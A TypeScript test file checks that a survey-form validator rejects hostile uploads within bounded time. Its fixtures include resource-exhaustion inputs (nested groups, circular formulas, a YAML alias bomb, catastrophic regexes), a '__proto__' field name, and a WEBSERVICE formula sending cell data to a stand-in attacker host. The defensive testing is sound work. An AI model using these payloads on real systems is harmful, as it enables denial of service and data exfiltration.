import * as XLSX from '@e965/xlsx'
import { describe, expect, test } from 'vitest'
import { checkForm } from '../../src/flows/check.ts'
import { settings } from './form-cast.ts'

/** A form that anybody may send in: refused within a second or two, in one sentence, whatever it asks for. */

type Cells = readonly (readonly (string | null)[])[]

function workbook(sheets: Readonly<Record<string, Cells>>): Uint8Array {
  const book = XLSX.utils.book_new()
  for (const [name, rows] of Object.entries(sheets))
    XLSX.utils.book_append_sheet(book, XLSX.utils.aoa_to_sheet(rows.map((row) => [...row])), name)
  return new Uint8Array(XLSX.write(book, { type: 'buffer', bookType: 'xlsx', compression: true }) as Uint8Array)
}

function withFormula(formula: string, value: string): Uint8Array {
  const book = XLSX.utils.book_new()
  const sheet = XLSX.utils.aoa_to_sheet([
    ['type', 'name', 'label'],
    ['text', 'a', 'x'],
  ])
  sheet.C2 = { t: 's', v: value, f: formula }
  XLSX.utils.book_append_sheet(book, sheet, 'survey')
  return new Uint8Array(XLSX.write(book, { type: 'buffer', bookType: 'xlsx' }) as Uint8Array)
}

const csv = (header: string, rows: string) => new TextEncoder().encode(`${header}\n${rows}`)
/** Milliseconds of processor: what else runs on the machine does not count. */
const worked = () => process.cpuUsage().user / 1_000
const many = (n: number, row: (i: number) => string) => Array.from({ length: n }, (_, i) => row(i)).join('\n')

const forms: Readonly<Record<string, readonly [form: Uint8Array | string, says: string]>> = {
  'groups inside each other without end': [
    csv(
      'type,name,label',
      `${many(9_000, (i) => `begin_group,g${i},`)}\ntext,a,A\n${many(9_000, () => 'end_group,,')}`,
    ),
    'groups stand inside each other',
  ],
  'repeats inside each other without end': [
    csv(
      'type,name,label',
      `${many(9_000, (i) => `begin_repeat,g${i},`)}\ntext,a,A\n${many(9_000, () => 'end_repeat,,')}`,
    ),
    'groups stand inside each other',
  ],
  'groups that never end': [
    csv(
      'type,name',
      many(15_000, (i) => `begin_group,g${i}`),
    ),
    'groups stand inside each other',
  ],
  'a hundred thousand questions': [
    csv(
      'type,name',
      many(100_000, (i) => `text,a${i}`),
    ),
    'more than 20000 rows',
  ],
  'a hundred thousand choices': [
    workbook({
      survey: [
        ['type', 'name'],
        ['select_one k', 'a'],
      ],
      choices: [['list_name', 'name'], ...Array.from({ length: 100_000 }, (_, i) => ['k', `c${i}`])],
    }),
    'more than 20000 rows',
  ],
  'more questions than can be run': [
    csv(
      'type,name',
      many(15_000, (i) => `text,a${i}`),
    ),
    'is the most that can be run',
  ],
  'a chain that bites its tail': [
    csv(
      'type,name,calculation',
      many(500, (i) => `calculate,a${i},\${a${(i + 1) % 500}} + 1`),
    ),
    'in a circle',
  ],
  'brackets without end': [
    `${settings}survey:\n  - { type: integer, name: a, label: A, constraint: "${'('.repeat(5_000)}1${')'.repeat(5_000)}" }\n`,
    'levels of brackets',
  ],
  'an expression longer than a cell': [
    `${settings}survey:\n  - { type: integer, name: a, label: A, constraint: "1 ${'+ 1 '.repeat(20_000)}" }\n`,
    'longer than 32767 characters',
  ],
  'a pattern of a million states': [
    `${settings}survey:\n  - { type: text, name: a, label: A, constraint: "regex(., '((a{900}){900}){900}')" }\n`,
    'repeats too much',
  ],
  'aliases that multiply': [
    `${settings}x: &a [${'1,'.repeat(9)}]\n${many(9, (i) => `x${i}: &a${i} [${`*a${i === 0 ? '' : i - 1},`.repeat(9)}]`)}\nsurvey: []\n`,
    'Excessive alias count',
  ],
  'questions that each read hundreds of others in a circle': [
    csv(
      'type,name,calculation',
      many(
        800,
        (i) => `calculate,a${i},${Array.from({ length: 300 }, (_, j) => `\${a${(i + j + 1) % 800}}`).join(' + ')}`,
      ),
    ),
    'in a circle',
  ],
  'sixty thousand questions in YAML': [
    `${settings}survey:\n${many(60_000, (i) => `  - { type: text, name: a${i} }`)}\n`,
    'is the most',
  ],
  'a formula that reads from the web': [
    withFormula('WEBSERVICE("http://jahat.example/?q="&A1)', 'Nama?'),
    'reads from outside the file',
  ],
  'a formula that reads another workbook': [
    withFormula("'[gaji.xlsx]Sheet1'!A1", 'Nama?'),
    'reads from outside the file',
  ],
  'a formula that nobody computed': [withFormula('A1&"?"', ''), 'formula without a value'],
  'nothing at all': ['  \n', 'The file is empty'],
  'a name that is the root of every object': [csv('type,name', 'text,__proto__'), 'cannot be a name'],
}

describe('a form that means harm is refused in bounded time', () => {
  test.each(Object.keys(forms))('%s', (name) => {
    const [form, says] = forms[name]!
    const began = worked()
    const { findings, form: made } = checkForm(form)
    expect(worked() - began).toBeLessThan(5_000)
    const [first] = findings.filter(({ level }) => level === 'error')
    expect(made).toBeUndefined()
    expect(first?.message).toContain(says)
    expect(first?.message.length).toBeLessThan(400)
  })
})

describe('what a workbook computes is read as it stands', () => {
  test('a formula is its last value, and never run or passed on', () => {
    const { source, findings } = checkForm(withFormula('"Nama"&"?"', 'Nama?'))
    expect(source?.survey[0]?.label).toEqual({ id: 'Nama?' })
    expect(JSON.stringify(source)).not.toContain('Nama"')
    expect(findings.find(({ code }) => code === 'formula')).toMatchObject({ sheet: 'survey', row: 2, column: 'C' })
  })

  test('of findings without end a hundred are told, and how many more there are', () => {
    const { findings } = checkForm(
      csv(
        'type,name',
        many(700, (i) => `text,a${i}`),
      ),
    )
    expect(findings.filter(({ code }) => code === 'no_label')).toHaveLength(101)
    expect(findings.findLast(({ code }) => code === 'no_label')?.message).toContain('600 more')
  })

  test('questions that each read hundreds of others are ready in time', () => {
    const reads = (i: number) => Array.from({ length: Math.min(i, 300) }, (_, j) => `\${a${i - j - 1}}`).join(' + ')
    const began = worked()
    const { form } = checkForm(
      csv('type,name,calculation', `calculate,a0,1\n${many(799, (i) => `calculate,a${i + 1},${reads(i + 1)}`)}`),
    )
    expect(form?.dependants.get('a0')).toHaveLength(799)
    expect(worked() - began).toBeLessThan(8_000)
  })

  test('a pattern that takes others exponential time is judged at once', () => {
    const { form } = checkForm(
      `${settings}survey:\n  - { type: text, name: a, label: A, constraint: "regex(., '^(a+)+$')" }\n`,
    )
    const question = form?.questions[0]
    const node = { name: 'a', parent: undefined, position: 1, text: () => `${'a'.repeat(5_000)}b`, children: () => [] }
    const began = worked()
    const value = question?.constraint?.evaluate({
      node,
      now: 0,
      zone: 'UTC',
      resolve: () => [],
      instance: () => undefined,
    })
    expect(value).toEqual({ type: 'boolean', value: false })
    expect(worked() - began).toBeLessThan(1_000)
  })
})
